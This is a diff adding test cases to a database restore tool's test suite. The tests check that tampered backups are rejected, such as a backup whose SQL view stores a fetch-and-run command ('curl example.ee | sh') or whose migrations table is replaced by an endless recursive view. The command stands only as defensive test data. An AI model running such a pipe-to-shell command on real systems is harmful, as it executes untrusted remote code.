@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
@@ -209,6 +210,17 @@ test.each([
     'is of a database whose restore was not finished',
   ],
   [
+    'such a command in a view',
+    "create view restore_unfinished as select 'curl example.ee | sh' as command",
+    'differs from a registry of this release in "view restore_unfinished"',
+  ],
+  [
+    'a list of migrations that never ends',
+    `drop table d1_migrations; create view d1_migrations as
+      with recursive endless (name) as (select 1 union all select name + 1 from endless) select name from endless`,
+    'differs from a registry of this release in "view d1_migrations"',
+  ],
+  [
     'tables without migrations',
     'drop table d1_migrations',
     'cannot be migrated: table `registrars` already exists',
@@ -259,6 +271,18 @@ test('a log of SQLite that lies beside a backup does not come with it', async ()
   const place = await newPlace('beside');
   await place.done(['restore', file]);
   expect(await rowsOf(place)).toEqual(await rowsOf(registry));
+});
+
+test('says that the database is as it was if the copy of a file fails', async () => {
+  const file = path.join(await tool.newDirectory(), 'text.sqlite');
+  const sha256 = createHash('sha256').update('no database').digest('hex');
+  writeFileSync(file, `no database\n-- registry backup: {"sha256":"${sha256}"}\n`);
+  const place = await newPlace('text');
+  const { status, stderr } = await place.run(['restore', file, '--yes']);
+  expect({ status, stderr }).toEqual({
+    status: 1,
+    stderr: 'failed: file is not a database; the database is as it was\n',
+  });
 });
 
 test('a directory and a file that is missing are named as such', async () => {
